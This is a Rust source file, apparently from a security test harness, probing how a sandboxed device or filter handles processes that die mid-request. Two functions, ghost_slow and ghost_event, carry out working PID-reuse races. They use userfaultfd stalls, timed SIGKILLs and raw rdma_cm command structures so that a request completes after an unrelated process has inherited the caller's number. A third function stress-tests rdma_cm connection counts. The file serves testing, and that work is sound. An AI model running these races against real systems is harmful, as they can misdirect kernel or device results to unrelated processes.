//! Attacks that need a device which answers requests with success, and the connection manager.

use std::io;
use std::net::Ipv4Addr;
use std::sync::atomic::AtomicI32;
use std::sync::atomic::AtomicU64;
use std::sync::atomic::Ordering;
use std::time::Duration;
use std::time::Instant;

use libc::c_int;
use libc::c_void;

use crate::board::Word;
use crate::canary::PLACE;
use crate::faults;
use crate::guest::Guest;
use crate::raw;
use crate::raw::PAGE;
use crate::raw::Stack;
use crate::raw::addr;
use crate::raw::addr_mut;
use crate::raw::call;
use crate::raw::clone;
use crate::raw::close;
use crate::raw::int;
use crate::raw::memory;
use crate::raw::name;
use crate::raw::sleep;
use crate::request;
use crate::request::errno;

/// How long an attacker waits for what may never come.
const COMES: Duration = Duration::from_secs(10);
const RDMA_CM: &str = "/dev/infiniband/rdma_cm";

static FILE: AtomicI32 = AtomicI32::new(-1);
static AT: AtomicU64 = AtomicU64::new(0);

/// A process that shares this one's memory and descriptors.
fn companion(body: extern "C" fn(*mut c_void) -> c_int) -> io::Result<i32> {
    let flags = libc::CLONE_VM | libc::CLONE_FILES | libc::SIGCHLD;
    clone(body, 0, flags, &Stack::new()?, 0)
}

/// It dies, and an innocent process outside gets its number.
fn is_replaced(guest: &Guest, process: i32) {
    raw::kill(process, libc::SIGKILL);
    raw::wait(process);
    guest.board.set(Word::Freed, process as u64);
    let inherited = guest.board.wait(Word::Heir, COMES);
    println!("its caller's number {process} is an innocent's: {inherited}");
}

extern "C" fn asks(_: *mut c_void) -> c_int {
    request::send(FILE.load(Ordering::SeqCst), AT.load(Ordering::SeqCst))
}

/// No trick but patience: the kernel waits for the memory of a request's outputs, its caller dies,
/// an innocent gets the number, and then the request ends well.
pub(super) fn ghost_slow(guest: &Guest) -> io::Result<()> {
    if guest.settings.get("real") != "1" {
        return Err(io::Error::other("SKIPPED: needs a device that writes outputs"));
    }
    let uffd = faults::of_the_kernel(&guest.board)?;
    memory(Some(PLACE), 2 * PAGE)?;
    let outputs = memory(None, PAGE)?;
    let fd = guest.planted(guest.device())?;
    faults::take(uffd, outputs, PAGE)?;
    request::lay_out(PLACE, outputs);
    FILE.store(fd, Ordering::SeqCst);
    AT.store(PLACE, Ordering::SeqCst);
    let process = companion(asks)?;
    sleep(500);
    is_replaced(guest, process);
    println!("the request may end: {}", faults::fill(uffd, outputs, PAGE).is_ok());
    sleep(1000);
    let after = request::query(fd);
    println!("a request afterwards: {}", name(after));
    Ok(())
}

/// A command to the connection manager; `out` is the length of its response.
fn command(fd: i32, number: u32, out: u16, body: &[u8]) -> io::Result<u64> {
    // The kernel reads whole structures.
    let mut bytes = vec![0_u8; 512];
    bytes[..4].copy_from_slice(&number.to_ne_bytes());
    bytes[4..6].copy_from_slice(&(body.len() as u16).to_ne_bytes());
    bytes[6..8].copy_from_slice(&out.to_ne_bytes());
    bytes[8..8 + body.len()].copy_from_slice(body);
    call(libc::SYS_write, &[int(fd), addr(&bytes[0]), 8 + body.len() as u64])
}

const CREATE_ID: u32 = 0;
const RESOLVE_IP: u32 = 3;
const GET_EVENT: u32 = 12;

fn create_id(fd: i32) -> io::Result<u32> {
    /// `RDMA_PS_TCP`, and `IBV_QPT_RC`.
    const KIND: u64 = 0x106 | 2 << 16;
    let mut id = 0_u32;
    let body: Vec<u8> =
        [7, addr_mut(&mut id), KIND].iter().flat_map(|word: &u64| word.to_ne_bytes()).collect();
    command(fd, CREATE_ID, 4, &body)?;
    Ok(std::hint::black_box(id))
}

/// Has an event come: an address is resolved, or after so many milliseconds given up.
fn resolve(fd: i32, id: u32, address: Ipv4Addr, patience: u64) -> io::Result<u64> {
    let mut body = vec![0_u8; 64];
    // struct sockaddr_in, in the place of the second of two struct sockaddr_in6.
    body[28..30].copy_from_slice(&(libc::AF_INET as u16).to_ne_bytes());
    body[32..36].copy_from_slice(&address.octets());
    body[56..60].copy_from_slice(&id.to_ne_bytes());
    body[60..64].copy_from_slice(&(patience as u32).to_ne_bytes());
    command(fd, RESOLVE_IP, 0, &body)
}

fn get_event(fd: i32, response: u64) -> io::Result<u64> {
    command(fd, GET_EVENT, 336, &response.to_ne_bytes())
}

extern "C" fn waits_for_an_event(_: *mut c_void) -> c_int {
    errno(&get_event(FILE.load(Ordering::SeqCst), AT.load(Ordering::SeqCst)))
}

/// Who waits for an event dies just before the event comes, and an innocent gets the number.
pub(super) fn ghost_event(guest: &Guest) -> io::Result<()> {
    /// When an address is given up that nobody has; whoever looks after waiters does so ten times
    /// a second, from when the command came.
    const GIVEN_UP: u64 = 1050;
    const DIES: u64 = 1015;
    let Ok(address) = guest.settings.get("address").parse::<Ipv4Addr>() else {
        return Err(io::Error::other("SKIPPED: needs a device with an address"));
    };
    let [a, b, c, last] = address.octets();
    let nobody = Ipv4Addr::new(a, b, c, last ^ 0x55);
    memory(Some(PLACE), 2 * PAGE)?;
    AT.store(PLACE, Ordering::SeqCst);
    for round in 0..4 {
        let fd = request::open(RDMA_CM)
            .map_err(|e| io::Error::other(format!("SKIPPED: needs {RDMA_CM}: {e}")))?;
        let id = create_id(fd)?;
        FILE.store(fd, Ordering::SeqCst);
        let process = companion(waits_for_an_event)?;
        sleep(200);
        guest.board.set(Word::Heir, 0);
        let begun = Instant::now();
        let due = resolve(fd, id, nobody, GIVEN_UP);
        sleep((DIES + 5 * round).saturating_sub(begun.elapsed().as_millis() as u64));
        guest.board.set(Word::Freed, process as u64);
        raw::kill(process, libc::SIGKILL);
        raw::wait(process);
        let inherited = guest.board.wait(Word::Heir, COMES);
        println!(
            "an event is due: {}; {process} is an innocent's, {inherited}, after {} ms",
            name(errno(&due)),
            begun.elapsed().as_millis()
        );
        sleep(400);
        // Events that nobody has seen are for the next who waits.
        let response = memory(None, PAGE)?;
        let waiter = std::thread::spawn(move || errno(&get_event(fd, response)));
        println!("the next who waits: {}", name(waiter.join().unwrap_or(-1)));
        close(fd);
    }
    Ok(())
}

/// As a server of rdma_cm does it: a file for each connection.
pub(super) fn connections(_: &Guest) -> io::Result<()> {
    const CONNECTIONS: usize = 1000;
    const ENOUGH: usize = 66;
    let many = libc::rlimit { rlim_cur: 4096, rlim_max: 4096 };
    // SAFETY: one struct, which lives through the call.
    let raised = unsafe { libc::setrlimit(libc::RLIMIT_NOFILE, &raw const many) } == 0;
    let first = request::open(RDMA_CM)
        .map_err(|e| io::Error::other(format!("SKIPPED: needs {RDMA_CM}: {e}")))?;
    close(first);
    let mut open = Vec::new();
    let begun = Instant::now();
    // Under emulation each takes its time; a filter watches 64 numbers.
    while open.len() < ENOUGH
        || open.len() < CONNECTIONS && begun.elapsed() < Duration::from_secs(20)
    {
        match request::open(RDMA_CM) {
            Ok(fd) => open.push(fd),
            Err(e) if e.raw_os_error() == Some(libc::EMFILE) => break,
            Err(e) => {
                println!("BROKEN: connection {}: {e}", open.len());
                break;
            }
        }
    }
    println!("{} connections at once, the limit raised: {raised}", open.len());
    let dead: Vec<String> =
        open.iter().filter_map(|fd| create_id(*fd).err().map(|e| format!("{fd}: {e}"))).collect();
    if let Some(first) = dead.first() {
        println!("BROKEN: {} of them do not work; the first at {first}", dead.len());
    }
    if open.len() < ENOUGH {
        println!("BROKEN: only {} at once", open.len());
    }
    Ok(())
}
